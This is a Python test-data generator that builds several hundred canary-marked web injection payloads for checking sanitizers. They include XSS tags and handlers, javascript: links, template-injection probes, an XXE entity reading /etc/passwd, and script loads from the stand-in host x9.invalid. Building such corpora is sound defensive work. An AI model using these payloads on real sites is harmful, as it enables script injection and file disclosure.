"""Texts that try to become part of a page, made from the known families of such texts. What they would do is call `x9`, and every
element and attribute that one of them would make is marked `x9`, so that a page shows by itself whether any of it took hold.
"""

from collections.abc import Iterator
from itertools import chain, cycle, islice, product
from random import Random

CALL = "x9()"
IMG = f"<img x9 src=x onerror={CALL}>"
QUOTES = ("", '"', "'", "`")
GAPS = (" ", "/", "\t", "\n", " \n", "/**/")
CARRIERS = (
    ("img", "src=x onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video", "src=x onerror"),
    ("audio", "src=x onerror"),
    ("details", "open ontoggle"),
    ("input", "autofocus onfocus"),
    ("select", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("iframe", "onload"),
    ("object", "data=x onerror"),
    ("link", "rel=stylesheet href=x onerror"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("p", "tabindex=1 autofocus onfocus"),
    ("a", "onpointerover"),
    ("div", "style=animation:a onanimationstart"),
)
CLOSERS = (
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</option></select>",
    "-->",
    "--!>",
    "]]>",
    '">',
    "'>",
    "`>",
    '"/>',
    "</template>",
    "</svg>",
    "</li></ul>",
    "?>",
    "%>",
    "</head><body>",
)


def tags() -> Iterator[str]:
    for closer in CLOSERS:
        yield f"{closer}<script x9>{CALL}</script>"
        yield f"{closer}{IMG}"
    for name in ("script", "SCRIPT", "ScRiPt", "script\t", "script\n", "script/x", "\0script"):
        yield f"<{name} x9>{CALL}</{name.strip()}>"
    yield f"<scr<script x9>ipt>{CALL}</scr</script>ipt>"
    yield "<script x9 src=//x9.invalid/a></script>"
    yield f"<<script x9>{CALL}//<</script>"
    yield f'<noscript><p title="</noscript>{IMG}">'


def handlers() -> Iterator[str]:
    for (name, how), quote, gap in product(CARRIERS, QUOTES, GAPS):
        yield f"<{name}{gap}x9{gap}{how.replace(' ', gap)}={quote}{CALL}{quote}>"


def attributes() -> Iterator[str]:
    for quote, how in product(('"', "'", "`", "", '\\"', "&quot;", "&#34;"), ("onfocus", "onmouseover", "onclick", "style")):
        yield f"a{quote} x9 autofocus tabindex=1 {how}={CALL} b={quote}"
        yield f"{quote} x9 accesskey=x {how}={quote}{CALL}"
    for quote in ('"', "'"):
        yield f"a{quote} x9 hx-get={quote}/keluar{quote} hx-trigger={quote}load"
        yield f"a{quote} x9 formaction={quote}javascript:{CALL}{quote}"


def links() -> Iterator[str]:
    words = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "javascript://%0a",
        "vbscript:",
        "data:text/html,",
        "jav&Tab;ascript:",
        "\1javascript:",
    )
    for word in words:
        yield f"{word}{CALL}"
        yield f'<a x9 href="{word}{CALL}">x</a>'
        yield f"<form x9 action={word}{CALL}><button>"
        yield f"<iframe x9 src={word}{CALL}>"
        yield f"[x]({word}{CALL})"


def templates() -> Iterator[str]:
    for start, end in (
        ("${", "}"),
        ("{{", "}}"),
        ("{%", "%}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("[[", "]]"),
        ("${{", "}}"),
        ("@{", "}"),
    ):
        yield f"{start}{CALL}{end}"
        yield f"{start}7*7{end}{IMG}"
        yield f"{start}constructor.constructor('{CALL}')(){end}"
    yield from (
        "{% load static %}{% debug %}",
        "{{ request.session }}",
        "{0.__class__}",
        "%(x)s%n%s",
        "{SECRET_KEY}",
        "#typst.eval",
    )


def scripts() -> Iterator[str]:
    for quote, end in product(("'", '"', "`", "\\'", '\\"'), ("//", "/*", "<!--", "")):
        yield f"{quote};{CALL};{end}"
        yield f"{quote}-{CALL}-{quote}{end}"
        yield f"{quote}}});{CALL};{end}"
    yield from (f"\u2028{CALL}\u2029", f"\\u003cscript x9\\u003e{CALL}", f"\\x3cimg x9 onerror={CALL}\\x3e", f'"}}</script>{IMG}')
    yield from ('{"__proto__":{"x9":1}}', f"*/{CALL}/*", f"<!--<script>{IMG}-->")


def encodings() -> Iterator[str]:
    for text in (f"<script x9>{CALL}</script>", IMG, f'"><svg x9 onload={CALL}>'):
        yield text.replace("<", "&lt;").replace(">", "&gt;")
        yield "".join(f"&#{ord(sign)};" if sign in "<>" else sign for sign in text)
        yield "".join(f"&#x{ord(sign):x}" if sign in "<>" else sign for sign in text)
        yield "".join(f"&#{ord(sign):07}" if sign in "<>" else sign for sign in text)
        yield text.replace("<", "%3C").replace(">", "%3E")
        yield text.replace("<", "%253C").replace(">", "%253E")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\u02c2").replace(">", "\u02c3")
        yield text.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
        yield text.replace("<", "¼").replace(">", "¾")
        yield text.replace("<", "<\u0338")


def drawings() -> Iterator[str]:
    for inside in (
        f"<script x9>{CALL}</script>",
        f"<animate x9 onbegin={CALL} attributeName=x dur=1s>",
        f"<set x9 onbegin={CALL}>",
        f"<foreignObject x9>{IMG}",
        f"<a x9 xlink:href=javascript:{CALL}><text>x",
        f"<style x9><!--</style>{IMG}",
        "<use x9 href=data:image/svg+xml,x>",
        f"<image x9 href=x onerror={CALL}>",
        f"<title x9>{IMG}",
        f"<desc x9><![CDATA[</desc>{IMG}]]>",
        f"<discard x9 onbegin={CALL}>",
    ):
        yield f"<svg x9>{inside}"
        yield f"<svg x9/onload={CALL}>{inside}</svg>"
        yield f"<math x9><mtext><table><mglyph><style>{inside}"


def elements() -> Iterator[str]:
    yield from (
        "<base x9 href=//x9.invalid/>",
        f"<meta x9 http-equiv=refresh content='0;url=javascript:{CALL}'>",
        "<form x9 id=x9><input name=x>",
        "<link x9 rel=import href=//x9.invalid>",
        "<embed x9 src=//x9.invalid>",
        f"<x9 onclick={CALL} x9>",
        "<style x9>@import'//x9.invalid'",
        f"<div x9 style=background:url(javascript:{CALL})>",
        "<div x9 hx-get=/keluar hx-trigger=load>",
        f"<div x9 hx-on:load={CALL}>",
        f"<div x9 data-hx-on--load={CALL}>",
        "<dialog x9 open>",
        "<a x9 id=config><a x9 id=config name=url>",
        "<img x9 name=getElementById>",
        f"<p x9 data-open=#x data-say={CALL}>",
        f"<template x9>{IMG}</template>",
        f"<iframe x9 srcdoc='{IMG}'>",
        "<plaintext x9>",
        "<!--x9",
        f"<![CDATA[{IMG}]]>",
        f"<?xml x9?>{IMG}",
        "<!DOCTYPE x [<!ENTITY x9 SYSTEM 'file:///etc/passwd'>]>&x9;",
        "<button x9 form=x9>",
        "<input x9 type=hidden name=verb value=hapus>",
        "<slot x9>",
        "<portal x9 src=//x9.invalid>",
        "<object x9 data=//x9.invalid>",
    )


def unseen() -> Iterator[str]:
    """Signs that turn or hide what is around them, and what is left of bytes that were no UTF-8."""
    signs = (
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u200f",
        "\u061c",
        "\ufeff",
        "\u200b",
        "\ufffd",
        "\u00ad",
        "\x7f",
        "\x85",
        "\xa0",
    )
    for sign in signs:
        yield f"{sign}{IMG}{sign}"
        yield f"<im{sign}g x9 src=x onerror={CALL}>"
        yield f"txt{sign}gnp.exe<script x9>{CALL}</script>"
    for broken in (b"\xc0\xbcscript x9\xc0\xbe", b"\xf8\x88\x80\x80\xbc", b"\xc3(", b"\xed\xa0\x80", b"\xff\xfe<\0"):
        yield broken.decode("utf-8", "replace") + IMG
        yield broken.decode("latin-1") + IMG


def polyglots() -> Iterator[str]:
    parts = (
        "jaVasCript:/*-/*`/*'/*\"/**/",
        "-->",
        "]]>",
        "</script>",
        "</title>",
        "'\"`",
        "${",
        "{{",
        "%0a",
        "\\",
        IMG,
        f"(/* */{CALL} )",
        f"<svg x9/onload={CALL}>",
        f"<script x9>{CALL}</script>",
        "//",
        "*/",
    )
    chance = Random(44)
    while True:
        yield "".join(chance.sample(parts, 4))


FAMILIES = (tags, handlers, attributes, links, templates, scripts, encodings, drawings, elements, unseen, polyglots)


def nasty_texts(many: int = 500) -> list[str]:
    """So many different ones, of every family as many as of another as far as it has so many."""
    chance = Random(44)
    families = []
    for family in FAMILIES:
        texts = list(dict.fromkeys(islice(family(), 600)))
        chance.shuffle(texts)
        families.append(texts)
    rounds = chain.from_iterable(zip(*(islice(cycle(texts), many) for texts in families), strict=True))
    return list(islice(dict.fromkeys(rounds), many))
